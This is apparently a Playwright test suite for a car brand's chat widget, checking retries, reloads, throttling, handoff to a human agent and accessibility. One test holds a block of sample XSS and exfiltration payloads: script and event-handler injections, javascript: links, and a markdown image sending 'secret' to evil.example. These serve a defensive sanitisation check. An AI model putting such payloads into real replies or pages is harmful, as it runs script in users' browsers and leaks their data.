"""The widget where the connection, the server or the session fails: no message is lost, and none is doubled."""

import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Locator, expect

from brands import Group, load_group
from tests.conftest import write_small_group
from tests.end_to_end.contract_server import Played, answer, build_contract_server, citation
from tests.end_to_end.widget_site import Visit, chromium, serve

pytestmark = pytest.mark.browser

LONG = "The front tyres need 2.3 bar. The rear tyres need 2.5 bar. Check them every month when they are cold."


@pytest.fixture(scope="module")
def group(tmp_path_factory: pytest.TempPathFactory) -> Group:
    return load_group(write_small_group(tmp_path_factory.mktemp("contract") / "group"))


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as one:
        yield one


@pytest.fixture
def played() -> Played:
    return Played(reply=answer(LONG))


@pytest.fixture
def visit(group: Group, played: Played, browser: Browser) -> Iterator[Visit]:
    with serve(build_contract_server(group, played)) as address:
        context = browser.new_context(viewport={"width": 1100, "height": 800})
        one = Visit(context, f"{address}/plain")
        one.open()
        yield one
        context.close()


def test_a_plain_page_with_the_one_tag_begins_its_session_with_the_key_alone(visit: Visit, played: Played) -> None:
    assert visit.ask("How much air?") == LONG
    assert played.sessions == [{"key": "pk_alder"}]
    assert len(played.messages) == 1
    key = played.messages[0][1]
    assert re.fullmatch(r"\d+(-\d+){3}", key), "128 random bits, as four numbers"
    assert all(int(number) < 2**32 for number in key.split("-"))
    visit.ask("And at the back?")
    assert played.messages[1][1] != key


def test_a_dropped_reply_is_resumed_where_it_broke_off(visit: Visit, played: Played) -> None:
    played.drop_after = [5, 4]
    assert visit.ask("How much air?") == LONG
    assert [last for _, _, last in played.messages] == [None, "5", "9"]
    assert len({key for _, key, _ in played.messages}) == 1, "every attempt carries the same key"
    assert visit.said() == ["How much air?"]
    expect(visit.replies()).to_have_count(1)


def test_a_reload_in_the_middle_of_a_reply_neither_loses_nor_doubles_it(visit: Visit, played: Played) -> None:
    played.pause_seconds = 0.2
    visit.say("How much air?")
    expect(visit.page.get_by_text("The front tyres")).to_be_visible()
    visit.page.reload()
    played.pause_seconds = 0
    visit.wait_for_replies(1)
    assert visit.replies().all_inner_texts() == [LONG]
    assert visit.said() == ["How much air?"]
    assert len({key for _, key, _ in played.messages}) == 1


def test_a_reload_before_the_server_had_the_message_sends_it_once(visit: Visit, played: Played) -> None:
    visit.page.route("**/v1/messages", lambda route: route.abort())
    visit.say("How much air?")
    expect(visit.page.get_by_text("The connection was lost. Trying again…").first).to_be_visible()
    visit.page.unroute("**/v1/messages")
    visit.page.reload()
    visit.wait_for_replies(1)
    assert visit.said() == ["How much air?"]
    assert len(played.streams) == 1


def test_offline_it_says_so_and_sends_the_message_afterwards(visit: Visit, played: Played) -> None:
    visit.page.context.set_offline(True)
    visit.say("How much air?")
    expect(visit.page.get_by_text("You are offline.").first).to_be_visible()
    visit.page.context.set_offline(False)
    visit.wait_for_replies(1)
    assert visit.said() == ["How much air?"]
    assert len(played.messages) == 1


def test_a_busy_server_is_asked_again(visit: Visit, played: Played) -> None:
    played.refuse = [(503, "not-ready", 1), (409, "in-flight", None), (429, "too-many", 1)]
    assert visit.ask("How much air?") == LONG
    assert len({key for _, key, _ in played.messages}) == 1


def test_a_server_that_asks_for_a_long_pause_leaves_the_choice_to_the_customer(visit: Visit, played: Played) -> None:
    played.refuse = [(429, "too-many", 3600)]
    visit.say("How much air?")
    expect(visit.page.get_by_text("There are too many questions at the moment.").first).to_be_visible()
    visit.page.get_by_role("button", name="Try again").click()
    visit.wait_for_replies(1)
    assert visit.said() == ["How much air?"]


def test_a_failed_reply_is_told_in_words_and_can_be_tried_again(visit: Visit, played: Played) -> None:
    played.error = 1
    visit.say("How much air?")
    expect(visit.page.get_by_text("The chat cannot be reached right now.").first).to_be_visible()
    expect(visit.page.get_by_text("Not sent.")).to_be_visible()
    visit.page.get_by_role("button", name="Try again").click()
    visit.wait_for_replies(1)
    assert len({key for _, key, _ in played.messages}) == 2, "the old key stands for the failure"


def test_a_session_that_ended_gives_way_to_a_new_one_with_the_message(visit: Visit, played: Played) -> None:
    visit.ask("How much air?")
    played.ended_tokens.add("t1")
    visit.say("And at the back?")
    expect(visit.page.get_by_text("The earlier conversation has ended. This is a new one.")).to_be_visible()
    visit.wait_for_replies(1)
    assert visit.said() == ["And at the back?"]
    assert len(played.sessions) == 2


def test_a_refused_message_is_told_in_words(visit: Visit, played: Played) -> None:
    played.refuse = [(422, "question-refused", None)]
    visit.say("?!")
    expect(visit.page.get_by_text("This message cannot be answered as it is.").first).to_be_visible()


def test_a_message_that_is_too_long_is_not_sent_and_not_cut(visit: Visit, played: Played) -> None:
    visit.say("a" * 207)
    expect(visit.page.get_by_text("7 characters too many")).to_be_visible()
    assert visit.page.get_by_role("textbox").input_value() == "a" * 207
    assert not played.messages


def test_a_choice_is_said_by_its_button(visit: Visit, played: Played) -> None:
    played.reply = answer("Which year is yours?", "clarify", choices=["2024", "2025"])
    visit.ask("How much air?")
    played.reply = answer(LONG)
    visit.page.get_by_role("group", name="Choose one").get_by_role("button", name="2025").click()
    visit.wait_for_replies(2)
    assert visit.said() == ["How much air?", "2025"]
    expect(visit.page.get_by_role("button", name="2024")).to_have_count(0)
    expect(visit.page.get_by_role("textbox")).to_be_focused()


def choices(visit: Visit) -> Locator:
    return visit.page.get_by_role("group", name="Choose one").get_by_role("button")


def test_choices_stand_there_again_after_a_reload_until_something_is_said(visit: Visit, played: Played) -> None:
    visit.ask("How much air?")
    played.reply = answer("Which year is yours?", "clarify", choices=["2024", "2025"])
    visit.ask("And at the back?")
    visit.page.reload()
    expect(choices(visit)).to_have_text(["2024", "2025"])
    played.reply = answer("Which load?", "clarify", choices=["normal", "full"])
    choices(visit).last.click()
    expect(choices(visit)).to_have_text(["normal", "full"])
    played.pause_seconds = 0.2
    played.reply = answer(LONG)
    choices(visit).first.click()
    visit.page.reload()
    visit.wait_for_replies(3)
    expect(choices(visit)).to_have_count(0)
    played.pause_seconds = 0
    visit.wait_for_replies(4)
    visit.page.reload()
    visit.wait_for_replies(4)
    expect(choices(visit)).to_have_count(0)
    assert visit.said() == ["How much air?", "And at the back?", "2025", "normal"]


def test_choices_make_way_for_the_word_of_a_person(visit: Visit, played: Played) -> None:
    played.reply = answer("Which year is yours?", "clarify", choices=["2024", "2025"])
    visit.ask("How much air?")
    call_person(visit, played)
    expect(choices(visit)).to_have_count(2)
    played.say_as_agent("Hello, this is Ann.")
    expect(visit.page.locator("marque-chat .agent .said")).to_be_visible()
    expect(choices(visit)).to_have_count(0)
    visit.page.reload()
    expect(visit.page.locator("marque-chat .agent .said")).to_be_visible()
    expect(choices(visit)).to_have_count(0)


def test_the_page_hints_at_the_vehicle_and_what_the_brand_does_not_know_is_left_out(
    visit: Visit, played: Played
) -> None:
    tag = "data-model=Grove data-year=2025 data-market=xx"
    visit.page.goto(f"{visit.address}?tag={tag}")
    visit.ask("How much air?")
    assert played.bodies[0]["vehicle"] == {"model": "grove", "model_year": 2025}


def call_person(visit: Visit, played: Played) -> None:
    played.handoff = {"state": "waiting"}
    visit.page.get_by_role("button", name="More").click()
    visit.page.get_by_role("button", name="Talk to a person").click()


def test_a_person_is_asked_for_and_their_answer_arrives_live(visit: Visit, played: Played) -> None:
    visit.ask("How much air?")
    call_person(visit, played)
    expect(visit.page.get_by_text("A person from Alder has been asked.")).to_be_visible()
    expect(visit.page.get_by_text("Hours: Mon-Fri 9-17")).to_be_visible()
    listen(visit)
    played.say_as_agent("Hello, this is Ann.")
    expect(visit.page.get_by_text("Ann is answering now.")).to_be_visible()
    expect(visit.page.locator("marque-chat .agent .said")).to_have_text("Hello, this is Ann.")
    expect(visit.replies()).to_have_count(1)
    assert heard_until(visit, "this is Ann.")[-1] == "Ann: Hello, this is Ann.", "who speaks, and all of it"


def test_when_the_person_leaves_the_assistant_is_said_to_answer_again(visit: Visit, played: Played) -> None:
    visit.ask("How much air?")
    call_person(visit, played)
    played.say_as_agent("Hello, this is Ann.")
    state = visit.page.locator("marque-chat .handoff")
    expect(state).to_contain_text("Ann is answering now.")
    played.handoff = {"state": "closed", "agent": "Ann"}
    expect(state).to_have_text("Al, the AI assistant, is answering again.")
    visit.page.reload()
    expect(state).to_have_text("Al, the AI assistant, is answering again.")
    visit.ask("And at the back?")
    expect(state).to_be_hidden()
    visit.page.reload()
    visit.wait_for_replies(2)
    expect(state).to_be_hidden()


def test_who_reads_further_up_is_not_torn_away_while_a_reply_grows(visit: Visit, played: Played) -> None:
    played.reply = answer("\n\n".join(f"Line {number} of a long reply." for number in range(40)))
    visit.ask("How much air?")
    place = "document.querySelector('marque-chat').shadowRoot.querySelector('.log').scrollTop"
    played.pause_seconds = 0.02
    visit.say("And at the back?")
    expect(visit.replies()).to_have_count(2)
    visit.page.locator("marque-chat .log").hover()
    for _ in range(100):  # a busy browser is told of the wheel late, and may have followed the reply until then
        visit.page.mouse.wheel(0, -100_000)
        visit.page.wait_for_timeout(100)
        if visit.page.evaluate(f"{place} === 0"):
            break
    visit.wait_for_replies(2)
    assert visit.page.evaluate(place) == 0


def test_without_a_way_to_a_person_the_contact_is_told(visit: Visit) -> None:
    visit.page.get_by_role("button", name="More").click()
    visit.page.get_by_role("button", name="Talk to a person").click()
    expect(visit.page.get_by_role("link", name="+44 1632 960001")).to_have_attribute("href", "tel:+441632960001")
    expect(visit.page.get_by_text("You reach people at Alder here:")).to_be_visible()


HOSTILE = """\
<script>window.hit=1</script><img src=x onerror="window.hit=1"><svg onload=window.hit=1>
![leak](https://evil.example/pixel?q=secret) ![][ref]

[ref]: https://evil.example/reference

[click](javascript:window.hit=1) [click](data:text/html,hit) [click](//evil.example/) [click](https://evil.example/a)
<https://evil.example/b> https://evil.example/c <iframe src=https://evil.example/d></iframe>
[near](https://alder.example.evil.example/) [user](https://alder.example@evil.example/) [own](https://alder.example/x)
[tel](tel:+15550100) [mail](mailto:thief@evil.example) <style>@import 'https://evil.example/e'</style>

| a | ![x](https://evil.example/f) |
|---|---|
| <b onclick=window.hit=1>b</b> | `<script>window.hit=1</script>` |
"""


def test_nothing_in_a_reply_runs_loads_or_leads_elsewhere(visit: Visit, played: Played) -> None:
    played.reply = answer(HOSTILE, citations=[citation(HOSTILE)])
    visit.ask(HOSTILE[:150])
    visit.page.locator("marque-chat summary").click()
    panel = visit.page.locator("marque-chat .panel")
    hrefs = panel.locator("a").evaluate_all("all => all.map(one => one.href)")
    assert set(hrefs) == {"https://alder.example/x"}
    assert panel.locator("img, script, iframe, style, link, object, .said svg, .quote svg").count() == 0
    assert visit.page.evaluate("window.hit") is None
    assert not [one for one in visit.requests if not one.startswith(visit.address.removesuffix("/plain"))]


def test_a_word_of_warning_and_what_stands_below_it_are_set_apart_together(visit: Visit, played: Played) -> None:
    warning = "**WARNING**\n\nDo not grease the threads."
    played.reply = answer(f"Tighten to 120 Nm.\n\n{warning}\n\nCheck again.", citations=[citation(warning)])
    visit.ask("How do I change a wheel?")
    expect(visit.replies().locator("blockquote")).to_have_text("WARNINGDo not grease the threads.")
    expect(visit.page.locator("marque-chat .quote blockquote")).to_have_text("WARNINGDo not grease the threads.")


def test_a_long_hostile_reply_does_not_hold_the_page_up(visit: Visit, played: Played) -> None:
    played.reply = answer("[" * 6000 + "**a" * 3000 + "![" * 3000 + "`" * 3001 + "| " * 3000)
    visit.ask("How much air?")
    played.reply = answer(LONG)
    assert visit.ask("And at the back?") == LONG


def listen(visit: Visit) -> None:
    visit.evaluate(
        "globalThis.heard = []; new MutationObserver(all => all.forEach(one => one.addedNodes.forEach(node => "
        "heard.push(node.textContent)))).observe(document.querySelector('marque-chat').shadowRoot"
        ".querySelector('.panel > [role=status]'), {childList: true})"
    )


def heard_until(visit: Visit, words: str) -> list[str]:
    visit.page.wait_for_function("words => heard.some(one => one.includes(words))", arg=words)
    heard: list[str] = visit.evaluate("heard")
    return heard


def test_a_screen_reader_hears_whole_sentences_once(visit: Visit, played: Played) -> None:
    played.pause_seconds = 0.1
    listen(visit)
    visit.ask("How much air?")
    heard = heard_until(visit, "when they are cold.")
    assert len(heard) <= 5, "not every piece of the stream is told"
    told = " ".join(heard)
    assert [told.count(one) for one in LONG.split(". ")] == [1, 1, 1]
    sentences = [one for one in heard if "bar" in one]
    assert all(one.rstrip().endswith((".", "…")) for one in sentences), "no half sentences"
